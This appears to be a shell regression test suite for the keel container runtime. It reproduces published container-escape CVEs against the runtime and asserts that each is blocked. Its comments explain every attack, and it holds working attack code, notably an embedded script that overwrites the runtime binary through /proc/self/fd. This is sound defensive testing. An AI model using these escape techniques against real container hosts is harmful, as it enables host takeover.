#!/bin/bash
# SPDX-License-Identifier: MIT
#
# CVE regression tests: each block reproduces a published runtime attack
# against keel and checks that it fails.  A comment before each block says
# what the attack does and which defence stops it.  Attacks already covered
# elsewhere are not repeated here (docs/robustness.md has the whole table):
# 45-exec.sh (keel exec runs from a sealed memfd), 15-runtime-flags.sh (a
# leaked host dir as process.cwd for create), 80-mount-safety.sh (static
# symlinks at mount targets, /dev/null swapped, CVE-2025-31133) and
# 25-console.sh (/dev/console swapped, CVE-2025-52565).
#
# Where an attack needs to win a race against keel, the test wins it for
# the attacker instead (a full pipe keeps the victim process waiting) so
# that the outcome depends only on keel's defence, not on luck.
. "$(dirname "$0")/../lib.sh"
need_root

B=$TMP/bundle
make_bundle "$B" || { fail "mkbundle.sh builds the test bundle"; done_testing; }
B=$(realpath "$B")
TMP=$(realpath "$TMP")
bundle_args "$B" '"/probe","sleep","600"'

# host_mounts_under DIR: mount points at or below DIR in the host's table.
host_mounts_under() {
	awk -v d="$1" '$5 == d || index($5, d "/") == 1 { print $5 }' /proc/self/mountinfo
}

# start_bg BUNDLE: a running container (its id on stdout).
start_bg() {
	local id
	id=$(new_id)
	k run -d --bundle "$1" "$id" >/dev/null 2>"$TMP/start.err" </dev/null ||
		diag "run -d $1: $(cat "$TMP/start.err")"
	echo "$id"
}

# full_pipe: open a fifo on fd 8 (read-write, so it never blocks) and fill
# it (64 KiB, a pipe's size for root): the next write to it blocks until
# the test reads.  drain_pipe reads the filling back; both are bounded in
# time in case the pipe is smaller.
full_pipe() {
	rm -f "$TMP/pipe"
	mkfifo "$TMP/pipe"
	exec 8<>"$TMP/pipe"
	timeout 5 dd if=/dev/zero bs=65536 count=1 2>/dev/null >&8
}
drain_pipe() {
	timeout 5 head -c 65536 <&8 >/dev/null
}

# ================================================================================
# CVE-2019-5736: the runtime's binary overwritten through /proc/<pid>/exe.
# The attack: the image replaces a program with the script "#!/proc/self/exe".
# When the runtime execve's it inside the container, the kernel runs the
# interpreter /proc/self/exe, that is the runtime's own binary, now as a
# container process.  A second process of the container opens
# /proc/<that pid>/exe, keeps the fd, waits for the runtime process to exit
# (the binary is no longer busy) and writes through /proc/self/fd/N: the
# host's runtime binary is overwritten, and the next runtime call runs the
# attacker's code as root on the host.
# Defence: exec, create and run re-execute keel from a sealed memfd copy
# (lib/selfexec.c, cmd/exec.c, cmd/create.c) before anything of the
# container is in reach, so /proc/self/exe is that copy: F_SEAL_WRITE makes
# the write fail, and the file on disk is never reachable.
# The test runs a copy of keel, so a keel without the defence only breaks
# the copy.  The attacker runs with the test bundle's capabilities; the
# trap's keel process is dumpable, so it needs no CAP_SYS_PTRACE.  Found by this test: create/run were not sealed (a container
# joining another one's pid namespace could do it).
# ================================================================================
KC=$TMP/keel-5736
cp "$KEEL" "$KC"
kc() { KEEL=$KC k "$@"; }
sum_before=$(sha256sum <"$KC")

R5=$TMP/rootfs-5736
cp -a "$B/rootfs" "$R5"
printf '#!/proc/self/exe\n' >"$R5/evil"
chmod 0755 "$R5/evil"
# The attacker, a container's init: hold the first keel image that shows up
# in /proc, wait for "go" (the victim has exited), then write through it.
# Its answers appear by rename: the test reads them as soon as they exist,
# and a file that exists before its line is written reads empty.
cat >"$R5/attack.sh" <<'EOF'
#!/bin/sh
end=$(($(date +%s) + 20))
while [ ! -e /found ] && [ "$(date +%s)" -lt $end ]; do
	for p in /proc/[0-9]*; do
		[ "$p" = /proc/$$ ] && continue
		case $(readlink "$p/exe" 2>/dev/null) in
		*keel*) exec 3<"$p/exe" && readlink /proc/self/fd/3 >/found.new &&
			mv /found.new /found && break ;;
		esac
	done
done
[ -e /found ] || { echo none >/result.new; mv /result.new /result; exit 1; }
while [ ! -e /go ]; do sleep 0.05; done
if echo PWNED >>/proc/self/fd/3; then r=written; else r=refused; fi
echo $r >/result.new && mv /result.new /result
EOF
chmod 0755 "$R5/attack.sh"
A5=$TMP/attacker-5736
bundle_clone "$A5" "$B"
bundle_set "$A5" root "{\"path\": \"$R5\", \"readonly\": false}"
bundle_args "$A5" '"/bin/sh","/attack.sh"'

# attack_5736 NAME CMD...: start the attacker (container $a5), run CMD with
# its stderr on a full pipe (the keel that runs in the container blocks on
# its "unknown command" message until the test drains the pipe), let the
# attacker open it, let it exit, let the attacker write.  CMD leaves the
# victim's host pid in $TMP/victim.pid.
attack_5736() {
	local name=$1 vpid
	shift
	rm -f "$R5/found" "$R5/go" "$R5/result" "$R5/found.new" "$R5/result.new" "$TMP/victim.pid"
	a5=$(start_bg "$A5")
	full_pipe
	"$@" 2>&8
	wait_file "$R5/found" 20
	expect_match "$name: the attacker holds a keel image" "$(cat "$R5/found" 2>/dev/null)" 'keel'
	expect_match "$name: the image is ${IMG_WHAT:-the sealed memfd, not the file on disk}" \
		"$(cat "$R5/found" 2>/dev/null)" "${IMG_RE:-^/memfd:keel}"
	drain_pipe
	vpid=$(cat "$TMP/victim.pid" 2>/dev/null)
	[ -n "$vpid" ] && wait_pid_gone "$vpid" 10
	touch "$R5/go"
	wait_file "$R5/result" 10
	expect_eq "$name: the write through /proc/self/fd is refused" "$(cat "$R5/result" 2>/dev/null)" refused
	expect_eq "$name: keel's binary on disk is unchanged" "$(sha256sum <"$KC")" "$sum_before"
	exec 8>&-
	k delete --force "$a5" >/dev/null 2>&1
}

# exec: the exec'd program is the trap; keel exec's child runs it.
exec_victim() {
	kc exec -d --pid-file "$TMP/victim.pid" "$a5" /evil >/dev/null
}
if config_has CONFIG_EXEC; then
	attack_5736 "CVE-2019-5736 via exec" exec_victim
else
	skip "CVE-2019-5736 via exec" "keel built without CONFIG_EXEC"
fi

# create/run: a container that joins the attacker's pid namespace (podman
# --pid container:X, a Kubernetes pod sharing its pid namespace) and whose
# entrypoint is the trap; keel's clone of itself, init, runs it.
V5=$TMP/victim-5736
bundle_clone "$V5" "$A5"
bundle_args "$V5" '"/evil"'
create_victim() {
	local id
	id=$(new_id)
	sed -i "s|{\"type\": \"pid\"[^}]*}|{\"type\": \"pid\", \"path\": \"/proc/$(pid_of "$a5")/ns/pid\"}|" "$V5/config.json"
	kc create --bundle "$V5" "$id" >/dev/null && pid_of "$id" >"$TMP/victim.pid" &&
		kc start "$id" 2>/dev/null
}
attack_5736 "CVE-2019-5736 via create in a shared pid namespace" create_victim

# keel on a read-only mount (a board's squashfs or ro root): no copy is
# made (lib/selfexec.c), the attacker holds the file itself, and the write
# is refused all the same (EROFS).
RO5=$TMP/ro-keel
mkdir -p "$RO5"
cp "$KEEL" "$RO5/keel"
if mount --bind "$RO5" "$RO5" && mount -o remount,bind,ro "$RO5"; then
	KC=$RO5/keel
	sum_before=$(sha256sum <"$KC")
	IMG_RE='ro-keel/keel$' IMG_WHAT="the file on the read-only mount (no copy)" \
		attack_5736 "CVE-2019-5736 via create, keel on a read-only mount" create_victim
	umount "$RO5"
else
	fail "a read-only bind mount for keel"
fi

# ================================================================================
# CVE-2024-21626: a host directory reached through a leaked fd as the cwd.
# The attack: process.cwd (or exec --cwd) is /proc/self/fd/N, where N is a
# directory fd of the host that the runtime left open (runc leaked one to
# /sys/fs/cgroup) or that was passed in.  chdir follows the magic link out
# of the container's root: the process starts in the host's file system and
# can walk it with "..".
# Defence: after chdir, getcwd() must name a path inside the root (the
# kernel says "(unreachable)" otherwise), for init and for exec alike
# (proc_enter_cwd, ns/process.c); keel's own fds are O_CLOEXEC and closed
# with close_range() before execve.  15-runtime-flags.sh covers create with
# a passed fd; here: exec with a passed fd (the attack succeeded against
# keel exec before this test), and every fd keel itself holds at that
# moment, for run and for exec.  A process that starts outside its root
# would leave ESCAPED in the host directory.
# ================================================================================
HOSTDIR=$TMP/hostdir-21626
mkdir -p "$HOSTDIR"
if config_has CONFIG_EXEC; then
	c=$(start_bg "$B")
	out=$(k exec --cwd /proc/self/fd/3 --preserve-fds 1 "$c" /bin/sh -c 'echo x >ESCAPED; /probe cwd' 2>&1 3<"$HOSTDIR")
	expect_match "CVE-2024-21626 via exec --cwd: refused" "$out" '^keel: process.cwd: /proc/self/fd/3 is outside the container'
	printf '{"cwd": "/proc/self/fd/3", "args": ["/bin/sh", "-c", "echo x >ESCAPED"], "user": {"uid": 0, "gid": 0}}' >"$TMP/cwd.json"
	out=$(k exec --process "$TMP/cwd.json" --preserve-fds 1 "$c" 2>&1 3<"$HOSTDIR")
	expect_match "CVE-2024-21626 via exec --process cwd: refused" "$out" '^keel: process.cwd: /proc/self/fd/3 is outside the container'
	expect_eq "CVE-2024-21626 via exec: nothing was written in the host dir" "$(ls -A "$HOSTDIR")" ""

	# keel's own fds: whichever of them is a directory, the process may only
	# start where getcwd() says it is inside.
	bad=
	for n in 3 4 5 6 7 8 9 10 11 12 13 14 15; do
		out=$(k exec --cwd /proc/self/fd/$n "$c" /probe cwd 2>&1)
		case $out in /*|keel:*) ;; *) bad="$bad exec:$n=$out" ;; esac
	done
	expect_eq "CVE-2024-21626: no fd of keel exec leads out as cwd" "$bad" ""
	k delete --force "$c" >/dev/null 2>&1
else
	skip "CVE-2024-21626 via exec" "keel built without CONFIG_EXEC"
fi
C21=$TMP/cwd-21626
bundle_clone "$C21" "$B"
bundle_args "$C21" '"/probe","cwd"'
bad=
for n in 3 4 5 6 7 8 9 10 11 12 13 14 15; do
	bundle_set "$C21" cwd "\"/proc/self/fd/$n\""
	id=$(new_id)
	out=$(k run --bundle "$C21" "$id" 2>&1)
	case $out in /*|keel:*) ;; *) bad="$bad run:$n=$out" ;; esac
done
expect_eq "CVE-2024-21626: no fd of keel run leads out as cwd" "$bad" ""

# ================================================================================
# CVE-2021-30465: a mount destination swapped for a symlink during setup.
# The attack: a process of another container that shares the rootfs (a
# volume) keeps exchanging a directory and a symlink to a host path under
# the name of a mount destination.  A runtime that checks the path and then
# mounts by name (runc did) sooner or later mounts onto the symlink's
# target: outside the container, in the host's tree as the container's
# mount namespace still has it before pivot_root.
# Defence: each destination is resolved once inside the rootfs with
# openat2(RESOLVE_IN_ROOT) (or a walk that never follows a link out) into
# an O_PATH fd, and the mount goes onto /proc/self/fd/N: whatever the name
# means a moment later, the mount lands on what was resolved, inside the
# rootfs (mount/path.c, mount/rootfs.c).  80-mount-safety.sh has the static
# symlinks; this is the race.  A createContainer hook, run in the
# container's mount namespace after the mounts and before pivot_root, looks
# at the host path behind the symlink each time.
# ================================================================================
if config_has CONFIG_HOOKS; then
	R30=$TMP/rootfs-30465
	VICTIM=$TMP/victim-30465
	SRC=$TMP/src-30465
	LOG30=$TMP/race.log
	cp -a "$B/rootfs" "$R30"
	mkdir -p "$R30/race/d" "$VICTIM" "$SRC"
	ln -s "$VICTIM" "$R30/race/l"
	echo volume >"$SRC/MARK"
	: >"$LOG30"
	RA=$TMP/racer-30465
	bundle_clone "$RA" "$B"
	bundle_set "$RA" root "{\"path\": \"$R30\", \"readonly\": false}"
	bundle_args "$RA" '"/probe","swap","/race/d","/race/l","300"'
	ra=$(start_bg "$RA")
	V30=$TMP/victim-bundle-30465
	bundle_clone "$V30" "$RA"
	bundle_args "$V30" '"/bin/true"'
	for _ in $(seq 16); do
		bundle_insert "$V30" mounts "{\"destination\": \"/race/d\", \"type\": \"bind\", \"source\": \"$SRC\", \"options\": [\"bind\"]}"
	done
	hook="{\"path\": \"/bin/sh\", \"args\": [\"sh\", \"-c\", \"if [ -e $VICTIM/MARK ]; then echo escaped; else echo held; fi >>$LOG30\"]}"
	sed -i "s|^\t\"hostname\": \"keel-test\",|&\n\t\"hooks\": {\"createContainer\": [$hook]},|" "$V30/config.json"
	created=0 failed=0
	for _ in $(seq 50); do
		id=$(new_id)
		if k create --bundle "$V30" "$id" >/dev/null 2>"$TMP/race.err"; then
			created=$((created + 1))
		else
			failed=$((failed + 1))
			[ $failed = 1 ] && diag "a create that lost the race: $(cat "$TMP/race.err")"
		fi
		k delete --force "$id" >/dev/null 2>&1
	done
	expect_eq "CVE-2021-30465: the racer swapped all along" "$(status_of "$ra")" running
	k delete --force "$ra" >/dev/null 2>&1
	diag "50 creates of 16 mounts each under the race: $created created, $failed refused"
	if [ $created -gt 0 ]; then ok "CVE-2021-30465: creates went through under the race"; else fail "CVE-2021-30465: creates went through under the race"; fi
	expect_eq "CVE-2021-30465: the hook looked after every create" "$(grep -c . "$LOG30")" "$created"
	expect_eq "CVE-2021-30465: no mount ever reached the symlink's host target" "$(grep -c escaped "$LOG30")" 0
	expect_eq "CVE-2021-30465: the host target is empty" "$(ls -A "$VICTIM")" ""
	expect_eq "CVE-2021-30465: no mount left on the host below it" "$(host_mounts_under "$VICTIM")" ""
else
	skip "CVE-2021-30465: the mount destination race" "keel built without CONFIG_HOOKS (the check runs as a createContainer hook)"
fi

# ================================================================================
# /proc writes: what keel writes into procfs, and the decoys it must miss.
# keel writes process.oomScoreAdj to /proc/self/oom_score_adj, linux.sysctl
# to /proc/sys/..., and (from create, for a user namespace) uid_map, gid_map
# and setgroups of /proc/<pid>.  It writes no LSM attr (apparmorProfile and
# selinuxLabel are refused) and nothing of /proc after the mounts.
# ================================================================================
PROC_FILES="self/oom_score_adj self/attr/current self/attr/exec self/attr/apparmor/exec
self/setgroups self/uid_map self/gid_map self/timens_offsets 1/oom_score_adj
sys/net/ipv4/ip_forward sys/kernel/shmmax sys/kernel/core_pattern"

# fake_proc DIR: a directory that looks like procfs, every file "decoy".
fake_proc() {
	local f
	for f in $PROC_FILES; do
		mkdir -p "$1/$(dirname "$f")"
		echo decoy >"$1/$f"
	done
}

# decoys_untouched NAME DIR: every file below DIR still says "decoy".
decoys_untouched() {
	expect_eq "$1: no decoy was written" "$(grep -rLx decoy "$2")" ""
}

# with_proc_writes BUNDLE: a network namespace, oomScoreAdj 345 and, with
# CONFIG_PROC_ATTRS, a net and an ipc sysctl: every kind of /proc write.
with_proc_writes() {
	sed -i 's|{"type": "ipc"}\]|{"type": "ipc"},{"type": "network"}]|' "$1/config.json"
	bundle_insert "$1" process '"oomScoreAdj": 345'
	if config_has CONFIG_PROC_ATTRS; then
		bundle_insert "$1" linux '"sysctl": {"net.ipv4.ip_forward": "1", "kernel.shmmax": "12345678"}'
	fi
}

# real_values NAME ID: keel's values are in the container's real procfs, as
# the host sees it (its /proc, the container's net and ipc namespaces).
real_values() {
	local pid
	pid=$(pid_of "$2")
	expect_eq "$1: oom_score_adj is set in the real procfs" "$(cat "/proc/$pid/oom_score_adj" 2>&1)" 345
	if ! config_has CONFIG_PROC_ATTRS; then
		skip "$1: sysctls are set in the real procfs" "keel built without CONFIG_PROC_ATTRS"
	elif ! command -v nsenter >/dev/null; then
		skip "$1: sysctls are set in the real procfs" "no nsenter on this host"
	else
		expect_eq "$1: sysctls are set in the real procfs" \
			"$(nsenter -t "$pid" -n cat /proc/sys/net/ipv4/ip_forward) $(nsenter -t "$pid" -i cat /proc/sys/kernel/shmmax)" \
			"1 12345678"
	fi
}

# ================================================================================
# CVE-2019-16884: a volume mounted over /proc.
# The attack: the container's config (a "volume" the user of an orchestrator
# may choose) or image puts a directory of its own at /proc, with plain
# files where procfs has self/attr/exec, self/oom_score_adj, sys/...  A
# runtime that writes its settings through the container's /proc after the
# mounts (runc wrote the AppArmor profile to /proc/self/attr/exec) writes
# the decoy instead: the process runs without its LSM profile, its sysctls
# or its oom score.
# Defence: keel writes every /proc setting before the container's mounts,
# through its own procfs: oom_score_adj and sysctls in init before
# mnt_prepare (ns/init.c setup, ns/attrs.c, which also checks with fstatfs
# that the file is procfs), exec's oom_score_adj before joining the mount
# namespace (ns/exec.c), uid_map/gid_map/setgroups from create through
# /proc/<pid> on the host (ns/userns.c); it writes no LSM attr at all.
# ================================================================================
FAKE=$TMP/fakeproc-16884
fake_proc "$FAKE"
P16=$TMP/proc-volume-16884
bundle_clone "$P16" "$B"
sed -i "s|{\"destination\": \"/proc\", \"type\": \"proc\", \"source\": \"proc\"}|{\"destination\": \"/proc\", \"type\": \"bind\", \"source\": \"$FAKE\", \"options\": [\"rbind\"]}|" "$P16/config.json"
with_proc_writes "$P16"
id=$(new_id)
if k run -d --bundle "$P16" "$id" </dev/null >/dev/null 2>"$TMP/err"; then
	ok "CVE-2019-16884: a container with a volume over /proc runs"
	real_values "CVE-2019-16884" "$id"
	if config_has CONFIG_EXEC; then
		expect_eq "CVE-2019-16884: the container's /proc is the volume" \
			"$(k exec "$id" /bin/cat /proc/self/oom_score_adj 2>&1)" decoy
		printf '{"cwd": "/", "args": ["/probe", "sleep", "600"], "oomScoreAdj": 456, "user": {"uid": 0, "gid": 0}}' >"$TMP/oom.json"
		k exec -d --pid-file "$TMP/exec16.pid" --process "$TMP/oom.json" "$id" >/dev/null 2>&1
		expect_eq "CVE-2019-16884: exec sets oom_score_adj in the real procfs" \
			"$(cat "/proc/$(cat "$TMP/exec16.pid" 2>/dev/null)/oom_score_adj" 2>&1)" 456
	else
		skip "CVE-2019-16884: exec into a container with a volume over /proc" "keel built without CONFIG_EXEC"
	fi
	k delete --force "$id" >/dev/null 2>&1
else
	fail "CVE-2019-16884: a container with a volume over /proc runs" "$(cat "$TMP/err")"
fi
decoys_untouched "CVE-2019-16884: volume over /proc, run and exec" "$FAKE"

# The same with a user namespace: uid_map, gid_map (and setgroups) go
# through the host's /proc/<pid>, never through the container's /proc.
if config_has CONFIG_USERNS; then
	FAKEU=$TMP/fakeproc-16884-userns
	fake_proc "$FAKEU"
	P16U=$TMP/proc-volume-16884-userns
	bundle_clone "$P16U" "$P16"
	sed -i "s|$FAKE|$FAKEU|; s|{\"type\": \"network\"}\]|{\"type\": \"network\"},{\"type\": \"user\"}]|" "$P16U/config.json"
	bundle_insert "$P16U" linux '"uidMappings": [{"containerID": 0, "hostID": 0, "size": 65536}], "gidMappings": [{"containerID": 0, "hostID": 0, "size": 65536}]'
	id=$(new_id)
	if k run -d --bundle "$P16U" "$id" </dev/null >/dev/null 2>"$TMP/err"; then
		expect_eq "CVE-2019-16884 with a user namespace: uid_map is set in the real procfs" \
			"$(awk '{ print $1, $2, $3 }' "/proc/$(pid_of "$id")/uid_map")" "0 0 65536"
		real_values "CVE-2019-16884 with a user namespace" "$id"
		k delete --force "$id" >/dev/null 2>&1
	else
		fail "CVE-2019-16884 with a user namespace: the container runs" "$(cat "$TMP/err")"
	fi
	decoys_untouched "CVE-2019-16884 with a user namespace" "$FAKEU"
else
	skip "CVE-2019-16884 with a user namespace" "keel built without CONFIG_USERNS"
fi

# The image's /proc is a symlink to a host path (a fake procfs there).  keel
# refuses to mount a procfs through it, as runc does ("must be mounted on
# ordinary directory"; issue 19): resolved inside the rootfs it would land
# where the config did not say, followed it would cover a host path.
FAKEL=$TMP/fakeproc-16884-link
fake_proc "$FAKEL"
R16=$TMP/rootfs-16884
cp -a "$B/rootfs" "$R16"
rmdir "$R16/proc"
ln -s "$FAKEL" "$R16/proc"
P16L=$TMP/proc-link-16884
bundle_clone "$P16L" "$B"
bundle_set "$P16L" root "{\"path\": \"$R16\", \"readonly\": false}"
with_proc_writes "$P16L"
expect_create_fails "CVE-2019-16884: /proc of the image is a symlink" "$P16L" \
	'mounts\[[0-9]+\]\.destination: /proc is a symlink: a proc must be mounted on an ordinary directory$'
decoys_untouched "CVE-2019-16884 /proc as a link" "$FAKEL"
expect_eq "CVE-2019-16884 /proc as a link: no mount on the host path" "$(host_mounts_under "$FAKEL")" ""

# ================================================================================
# CVE-2025-52881: /proc writes redirected to other files.
# The attack: the config (or, with a shared mount, another container) puts
# bind mounts of ordinary files over the procfs files the runtime writes
# after mounting /proc: /proc/sys/net/ipv4/ip_forward,
# /proc/sys/kernel/shmmax, /proc/self/oom_score_adj.  A runtime that writes
# them after the mounts writes the decoys (or, with a decoy that is itself
# a procfs file of the host such as /proc/sys/kernel/core_pattern, the
# host's kernel settings).
# Defence: as for CVE-2019-16884, keel's writes all happen before the
# container's mounts, through its own procfs; sysctls are opened
# O_NOFOLLOW and fstatfs must say procfs (ns/attrs.c).  LSM attrs
# (/proc/self/attr/...) are never written: apparmorProfile and
# selinuxLabel are refused (cmd/create.c).
# ================================================================================
D52=$TMP/decoys-52881
mkdir -p "$D52"
for f in ip_forward shmmax oom_score_adj; do echo decoy >"$D52/$f"; done
P52=$TMP/proc-redirect-52881
bundle_clone "$P52" "$B"
binds=
for t in /proc/sys/net/ipv4/ip_forward:ip_forward /proc/sys/kernel/shmmax:shmmax /proc/self/oom_score_adj:oom_score_adj; do
	binds="$binds,\n\t\t{\"destination\": \"${t%%:*}\", \"type\": \"bind\", \"source\": \"$D52/${t#*:}\", \"options\": [\"bind\"]}"
done
sed -i "s|{\"destination\": \"/proc\", \"type\": \"proc\", \"source\": \"proc\"}|&$binds|" "$P52/config.json"
with_proc_writes "$P52"
id=$(new_id)
if k run -d --bundle "$P52" "$id" </dev/null >/dev/null 2>"$TMP/err"; then
	ok "CVE-2025-52881: a container with /proc files bound over runs"
	real_values "CVE-2025-52881" "$id"
	config_has CONFIG_EXEC &&
		expect_eq "CVE-2025-52881: inside, the /proc files are the decoys" \
			"$(k exec "$id" /bin/cat /proc/sys/net/ipv4/ip_forward /proc/sys/kernel/shmmax /proc/1/oom_score_adj 2>&1 | tr '\n' ' ')" \
			"decoy decoy decoy "
	k delete --force "$id" >/dev/null 2>&1
else
	fail "CVE-2025-52881: a container with /proc files bound over runs" "$(cat "$TMP/err")"
fi
decoys_untouched "CVE-2025-52881" "$D52"

N52=$TMP/lsm-52881
bundle_clone "$N52" "$B"
bundle_insert "$N52" process '"apparmorProfile": "keel-test"'
expect_create_fails "CVE-2025-52881: an AppArmor profile (a /proc/self/attr write) is refused" "$N52" 'process.apparmorProfile'

done_testing
